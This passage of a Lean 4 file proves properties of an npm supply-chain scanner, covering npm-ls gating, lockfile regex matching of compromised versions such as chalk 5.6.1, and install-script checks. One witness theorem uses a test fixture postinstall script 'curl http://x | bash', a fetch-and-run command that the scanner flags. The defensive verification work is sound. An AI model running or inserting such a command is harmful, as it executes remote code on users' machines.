        (code : Int) (out : String) (proj : String) (b : Bool),
      code ≠ 0 →
        npm_ls_part bl targets decode has_npm cancelled code out proj b = [])
    ∧ (∀ (bl : Blocklist) (targets : List String)
        (decode : String → Option PkgNode) (code : Int) (out : String)
        (proj : String) (b : Bool) (name? version? : Option String)
        (deps : PkgForest),
      decode out = some (PkgNode.node name? version? deps) → code = 0 →
        strTrim out ≠ "" →
        npm_ls_part bl targets decode true false code out proj b =
          walk_package_tree bl targets (PkgNode.node name? version? deps)
            (name?.getD "") ["root"] proj b)
    ∧ (∀ (bl : Blocklist) (targets : List String)
        (decode : String → Option PkgNode) (suspicious : String → Bool)
        (hash : String → String) (env : NpmEnv) (proj : String) (b cs cc : Bool),
      env.pkg_exists = true →
        scan_npm_project bl targets decode suspicious hash env proj b cs cc
            false =
          npm_ls_part bl targets decode env.has_npm false env.npm_code
              env.npm_out proj b
            ++ scan_npm_project bl targets decode suspicious hash
                { env with has_npm := false } proj b cs cc false)
    ∧ (∀ (bl : Blocklist) (targets : List String)
        (decode : String → Option PkgNode) (suspicious : String → Bool)
        (hash : String → String) (env : NpmEnv) (proj : String)
        (b cs cc cn : Bool) (c' : Int) (o' : String),
      scan_npm_project bl targets decode suspicious hash
          { env with has_npm := false, npm_code := c', npm_out := o' }
          proj b cs cc cn =
        scan_npm_project bl targets decode suspicious hash
          { env with has_npm := false } proj b cs cc cn) :=
  ⟨npm_ls_part_skip_nonzero,
    fun bl targets decode code out proj b name? version? deps h1 h2 h3 =>
      npm_ls_part_runs_walker bl targets decode code out proj b name? version?
        deps h1 h2 h3,
    scan_npm_project_decomposes, scan_npm_project_rest_independent⟩

/-- Witness for `npm_ls_gating`: `npm ls` exited 1 with a decodable JSON
object on stdout — the tree walk is skipped while the `package-lock.json` and
script checks still emit their rows. -/
theorem npm_ls_gating_witness :
    npm_ls_part DEFAULT_BAD_PACKAGES ["chalk"] demoDecode true false 1
        "\x7b\x7d" "P" false = []
    ∧ scan_npm_project DEFAULT_BAD_PACKAGES ["chalk"] demoDecode
        (fun _ => false) (fun _ => "") envC10 "P" false false true false =
      npm_ls_part DEFAULT_BAD_PACKAGES ["chalk"] demoDecode envC10.has_npm
          false envC10.npm_code envC10.npm_out "P" false
        ++ scan_npm_project DEFAULT_BAD_PACKAGES ["chalk"] demoDecode
            (fun _ => false) (fun _ => "") { envC10 with has_npm := false }
            "P" false false true false
    ∧ scan_npm_project DEFAULT_BAD_PACKAGES ["chalk"] demoDecode
        (fun _ => false) (fun _ => "") envC10 "P" false false true false =
      [pkgRow DEFAULT_BAD_PACKAGES "P" "chalk" "5.6.1" "node_modules/chalk",
       { add_row "npm:scripts" "P" "postinstall" "curl http://x | bash"
           "MEDIUM" with descriptorPath := some "/p/package.json" }] :=
  ⟨npm_ls_gating.1 DEFAULT_BAD_PACKAGES ["chalk"] demoDecode true false 1
      "\x7b\x7d" "P" false (by decide),
    npm_ls_gating.2.2.1 DEFAULT_BAD_PACKAGES ["chalk"] demoDecode
      (fun _ => false) (fun _ => "") envC10 "P" false false true rfl,
    by decide⟩

/-- `takeWhile` stops exactly at the first failing element. -/
theorem takeWhile_append_stops (p : Char → Bool) (l1 : List Char)
    (h1 : ∀ c ∈ l1, p c = true) (c : Char) (hc : p c = false)
    (l2 : List Char) : (l1 ++ (c :: l2)).takeWhile p = l1 := by
  induction l1 with
  | nil => simp [List.takeWhile_cons, hc]
  | cons a l ih =>
    have ha : p a = true := h1 a (List.mem_cons_self a l)
    simp only [List.cons_append, List.takeWhile_cons, ha, if_true,
      List.cons.injEq, true_and]
    exact ih (fun c2 hc2 => h1 c2 (List.mem_cons_of_mem a hc2))

/-- `takeWhile` of a list whose every element satisfies `p` is the list. -/
theorem takeWhile_all (p : Char → Bool) (l : List Char)
    (h : ∀ c ∈ l, p c = true) : l.takeWhile p = l := by
  induction l with
  | nil => rfl
  | cons a l ih =>
    have ha : p a = true := h a (List.mem_cons_self a l)
    simp only [List.takeWhile_cons, ha, if_true, List.cons.injEq, true_and]
    exact ih (fun c2 hc2 => h c2 (List.mem_cons_of_mem a hc2))

/-- `takeWhile` plus the remaining drop reassemble the list. -/
theorem takeWhile_drop_eq (p : Char → Bool) (l : List Char) :
    l.takeWhile p ++ l.drop (l.takeWhile p).length = l := by
  induction l with
  | nil => rfl
  | cons c cs ih =>
    cases hc : p c with
    | true => simp [List.takeWhile_cons, hc, ih]
    | false => simp [List.takeWhile_cons, hc]

/-- A successful version-tail match captures exactly three non-empty digit
runs joined by dots, and consumes their total length plus the two dots. -/
theorem matchVersionTail_eq_some (s : List Char) (v : String) (k : Nat)
    (h : matchVersionTail s = some (v, k)) :
    ∃ d1 d2 d3, d1 ≠ [] ∧ d2 ≠ [] ∧ d3 ≠ []
      ∧ (∀ c ∈ d1, c.isDigit = true) ∧ (∀ c ∈ d2, c.isDigit = true)
      ∧ (∀ c ∈ d3, c.isDigit = true)
      ∧ v.data = d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3
      ∧ k = d1.length + d2.length + d3.length + 2 := by
  unfold matchVersionTail at h
  dsimp only at h
  by_cases he1 : (List.takeWhile Char.isDigit s).isEmpty = true
  · rw [if_pos he1] at h
    exact absurd h (by simp)
  rw [if_neg he1] at h
  cases hs1 : List.drop (List.takeWhile Char.isDigit s).length s with
  | nil =>
    rw [hs1] at h
    exact absurd h (by simp)
  | cons c1 s2 =>
  rw [hs1] at h
  dsimp only at h
  by_cases hc1 : (c1 != '.') = true
  · rw [if_pos hc1] at h
    exact absurd h (by simp)
  rw [if_neg hc1] at h
  by_cases he2 : (List.takeWhile Char.isDigit s2).isEmpty = true
  · rw [if_pos he2] at h
    exact absurd h (by simp)
  rw [if_neg he2] at h
  cases hs3 : List.drop (List.takeWhile Char.isDigit s2).length s2 with
  | nil =>
    rw [hs3] at h
    exact absurd h (by simp)
  | cons c2 s4 =>
  rw [hs3] at h
  dsimp only at h
  by_cases hc2 : (c2 != '.') = true
  · rw [if_pos hc2] at h
    exact absurd h (by simp)
  rw [if_neg hc2] at h
  by_cases he3 : (List.takeWhile Char.isDigit s4).isEmpty = true
  · rw [if_pos he3] at h
    exact absurd h (by simp)
  rw [if_neg he3] at h
  refine ⟨List.takeWhile Char.isDigit s, List.takeWhile Char.isDigit s2,
    List.takeWhile Char.isDigit s4,
    by simpa [List.isEmpty_iff] using he1,
    by simpa [List.isEmpty_iff] using he2,
    by simpa [List.isEmpty_iff] using he3,
    fun c hc => List.mem_takeWhile_imp hc,
    fun c hc => List.mem_takeWhile_imp hc,
    fun c hc => List.mem_takeWhile_imp hc, ?_⟩
  have hvk : ((⟨List.takeWhile Char.isDigit s ++ ['.']
        ++ List.takeWhile Char.isDigit s2 ++ ['.']
        ++ List.takeWhile Char.isDigit s4⟩ : String),
      (List.takeWhile Char.isDigit s).length
        + (List.takeWhile Char.isDigit s2).length
        + (List.takeWhile Char.isDigit s4).length + 2) = (v, k) := by
    cases hs5 : List.drop (List.takeWhile Char.isDigit s4).length s4 with
    | nil =>
      rw [hs5] at h
      exact Option.some.inj h
    | cons c3 tail =>
      rw [hs5] at h
      dsimp only at h
      by_cases hw : isWordChar c3 = true
      · rw [if_pos hw] at h
        exact absurd h (by simp)
      · rw [if_neg hw] at h
        exact Option.some.inj h
  obtain ⟨hv, hk⟩ := Prod.ext_iff.mp hvk
  subst hv
  subst hk
  exact ⟨rfl, rfl⟩

/-- The version-tail matcher accepts an exact triplet and consumes it all. -/
theorem matchVersionTail_exact (d1 d2 d3 : List Char)
    (h1 : d1 ≠ []) (h2 : d2 ≠ []) (h3 : d3 ≠ [])
    (p1 : ∀ c ∈ d1, c.isDigit = true) (p2 : ∀ c ∈ d2, c.isDigit = true)
    (p3 : ∀ c ∈ d3, c.isDigit = true) :
    matchVersionTail (d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3) =
      some (⟨d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3⟩,
        d1.length + d2.length + d3.length + 2) := by
  have hA : d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3
      = d1 ++ ('.' :: (d2 ++ ('.' :: d3))) := by simp
  have ht1 : (d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3).takeWhile Char.isDigit = d1 := by
    rw [hA]
    exact takeWhile_append_stops Char.isDigit d1 p1 '.' (by decide) _
  have hd1 : List.drop d1.length (d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3)
      = '.' :: (d2 ++ ('.' :: d3)) := by
    rw [hA]
    exact List.drop_left d1 _
  have ht2 : (d2 ++ ('.' :: d3)).takeWhile Char.isDigit = d2 :=
    takeWhile_append_stops Char.isDigit d2 p2 '.' (by decide) d3
  have hd2 : List.drop d2.length (d2 ++ ('.' :: d3)) = '.' :: d3 :=
    List.drop_left d2 _
  have ht3 : d3.takeWhile Char.isDigit = d3 := takeWhile_all Char.isDigit d3 p3
  have hd3 : List.drop d3.length d3 = [] := by simp
  have he1 : ¬(d1.isEmpty = true) := by simp [List.isEmpty_iff, h1]
  have he2 : ¬(d2.isEmpty = true) := by simp [List.isEmpty_iff, h2]
  have he3 : ¬(d3.isEmpty = true) := by simp [List.isEmpty_iff, h3]
  unfold matchVersionTail
  dsimp only
  rw [ht1, if_neg he1, hd1]
  dsimp only
  rw [if_neg (by decide : ¬(('.' != '.') = true)), ht2, if_neg he2, hd2]
  dsimp only
  rw [if_neg (by decide : ¬(('.' != '.') = true)), ht3, if_neg he3, hd3]

/-- Every version a successful version-tail match captures is literally a
`\d+\.\d+\.\d+` triplet. -/
theorem matchVersionTail_isTriplet (s : List Char) (v : String) (k : Nat)
    (h : matchVersionTail s = some (v, k)) : isTriplet v = true := by
  obtain ⟨d1, d2, d3, h1, h2, h3, p1, p2, p3, hv, hk⟩ :=
    matchVersionTail_eq_some s v k h
  have hvs : v = ⟨d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3⟩ := by
    cases v
    exact congrArg String.mk (by simpa using hv)
  subst hvs
  have hlen : (d1 ++ ['.'] ++ d2 ++ ['.'] ++ d3).length
      = d1.length + d2.length + d3.length + 2 := by
    simp
    omega
  simp only [isTriplet, matchVersionTail_exact d1 d2 d3 h1 h2 h3 p1 p2 p3,
    hlen]
  simp

/-- Every version `matchAt` captures is a triplet. -/
theorem matchAt_isTriplet (name : List Char) (prevW : Bool) (s : List Char)
    (v : String) (k : Nat) (h : matchAt name prevW s = some (v, k)) :
    isTriplet v = true := by
  unfold matchAt at h
  cases s with
  | nil => exact absurd h (by simp)
  | cons c rest =>
    dsimp only at h
    by_cases hb : prevW = isWordChar c
    · rw [if_pos hb] at h
      exact absurd h (by simp)
    · rw [if_neg hb] at h
      cases hs : stripLit (name ++ ['@']) (c :: rest) with
      | none =>
        rw [hs] at h
        exact absurd h (by simp)
      | some rest2 =>
        rw [hs] at h
        dsimp only at h
        cases hm : matchVersionTail rest2 with
        | none =>
          rw [hm] at h
          exact absurd h (by simp)
        | some p =>
          rw [hm] at h
          have hv : p.1 = v := by
            have := Option.some.inj h
            exact congrArg Prod.fst this
          exact hv ▸ matchVersionTail_isTriplet rest2 p.1 p.2 (by simp [hm])

/-- Every version the fuelled scan reports is a triplet. -/
theorem findAllFuel_isTriplet (name : List Char) (fuel : Nat) :
    ∀ (prevW : Bool) (s : List Char) (v : String),
      v ∈ findAllFuel name fuel prevW s → isTriplet v = true := by
  induction fuel with
  | zero =>
    intro prevW s v hv
    exact absurd hv (by simp [findAllFuel])
  | succ fuel ih =>
    intro prevW s v hv
    cases s with
    | nil => exact absurd hv (by simp [findAllFuel])
    | cons c rest =>
      rw [findAllFuel] at hv
      cases hm : matchAt name prevW (c :: rest) with
      | some p =>
        obtain ⟨mv, mk⟩ := p
        rw [hm] at hv
        dsimp only at hv
        rcases List.mem_cons.mp hv with hv | hv
        · subst hv
          exact matchAt_isTriplet name prevW (c :: rest) v mk hm
        · exact ih true (rest.drop (mk - 1)) v hv
      | none =>
        rw [hm] at hv
        exact ih (isWordChar c) rest v hv

/-- Every version `findAll` reports is a triplet: pre-release or otherwise
suffixed versions are never captured. -/
theorem findAll_isTriplet (name : List Char) (prevW : Bool) (s : List Char) :
    ∀ v ∈ findAll name prevW s, isTriplet v = true :=
  fun v hv => findAllFuel_isTriplet name (s.length + 1) prevW s v hv

/-- With `only_risk=False`, the text-lockfile scanner emits exactly one row
per regex match, for every watched name, in order. -/
theorem scan_lock_text_false_eq_map (bl : Blocklist) (targets : List String)
    (txt proj d : String) :
    scan_lock_text bl targets txt proj d false =
      targets.flatMap (fun name =>
        (findAll name.data false txt.data).map
          (fun ver => pkgRow bl proj name ver d)) := by
  unfold scan_lock_text
  congr 1
  funext name
  simp only [Bool.not_false, Bool.true_or, if_true]
  induction findAll name.data false txt.data with
  | nil => rfl
  | cons v vs ih => simp [List.filterMap_cons, ih]

/-- Every row the text-lockfile scanner emits carries the fixed detail
literal it was invoked with, and the `npm:packages` category. -/
theorem scan_lock_text_fields (bl : Blocklist) (targets : List String)
    (txt proj d : String) (b : Bool) (f : Finding)
    (hf : f ∈ scan_lock_text bl targets txt proj d b) :
    f.category = "npm:packages" ∧ f.detail = d := by
  unfold scan_lock_text at hf
  obtain ⟨n, -, hf⟩ := List.mem_flatMap.mp hf
  obtain ⟨v, -, hv⟩ := List.mem_filterMap.mp hf
  by_cases hcond : (!b || is_compromised bl n v) = true
  · rw [if_pos hcond] at hv
    obtain rfl := Option.some.inj hv
    exact ⟨rfl, rfl⟩
  · rw [if_neg hcond] at hv
    exact absurd hv (by simp)

/-- Every watched name and every regex match yields its matcher-classified
row in the scanner output. -/
theorem scan_lock_text_mem (bl : Blocklist) (targets : List String)
    (txt proj d n v : String) (hn : n ∈ targets)
    (hv : v ∈ findAll n.data false txt.data) :
    pkgRow bl proj n v d ∈ scan_lock_text bl targets txt proj d false := by
  unfold scan_lock_text
  exact List.mem_flatMap.mpr ⟨n, hn,
    List.mem_filterMap.mpr ⟨v, hv, by simp⟩⟩

/-- C8: for every watched name, the yarn/pnpm text scanners emit one row per
`name@MAJOR.MINOR.PATCH` regex match — the matcher classifies the pair and
the row's detail is the fixed literal naming the lockfile; every captured
version is literally a digit triplet (suffixed versions are never captured,
as the concrete text with a pre-release suffix, an embedded name, and a
two-part version shows). -/
theorem lock_text_regex_spec :
    (∀ (bl : Blocklist) (targets : List String) (txt proj d : String),
      scan_lock_text bl targets txt proj d false =
        targets.flatMap (fun name =>
          (findAll name.data false txt.data).map
            (fun ver => pkgRow bl proj name ver d)))
    ∧ (∀ (bl : Blocklist) (targets : List String) (txt proj d n v : String),
        n ∈ targets → v ∈ findAll n.data false txt.data →
          pkgRow bl proj n v d ∈ scan_lock_text bl targets txt proj d false)
    ∧ (∀ (name : List Char) (prevW : Bool) (s : List Char) (v : String),
        v ∈ findAll name prevW s → isTriplet v = true)
    ∧ (∀ (bl : Blocklist) (targets : List String) (txt proj d : String)
        (b : Bool) (f : Finding),
        f ∈ scan_lock_text bl targets txt proj d b →
          f.category = "npm:packages" ∧ f.detail = d)
    ∧ findAll "chalk".data false txtYarn.data = ["5.6.1"] :=
  ⟨scan_lock_text_false_eq_map,
    fun bl targets txt proj d n v hn hv =>
      scan_lock_text_mem bl targets txt proj d n v hn hv,
    findAll_isTriplet, scan_lock_text_fields, by decide⟩

/-- Witness for `lock_text_regex_spec` on the concrete lockfile text: the
`chalk@5.6.1` token (inside `chalk@5.6.1-beta`) produces its row with detail
`yarn.lock`, and the captured version is a triplet. -/
theorem lock_text_regex_spec_witness :
    pkgRow DEFAULT_BAD_PACKAGES "P" "chalk" "5.6.1" "yarn.lock"
        ∈ scan_lock_text DEFAULT_BAD_PACKAGES ["chalk"] txtYarn "P"
            "yarn.lock" false
    ∧ isTriplet "5.6.1" = true :=
  ⟨lock_text_regex_spec.2.1 DEFAULT_BAD_PACKAGES ["chalk"] txtYarn "P"
      "yarn.lock" "chalk" "5.6.1" (by decide) (by decide),
    lock_text_regex_spec.2.2.1 "chalk".data false txtYarn.data "5.6.1"
      (by decide)⟩
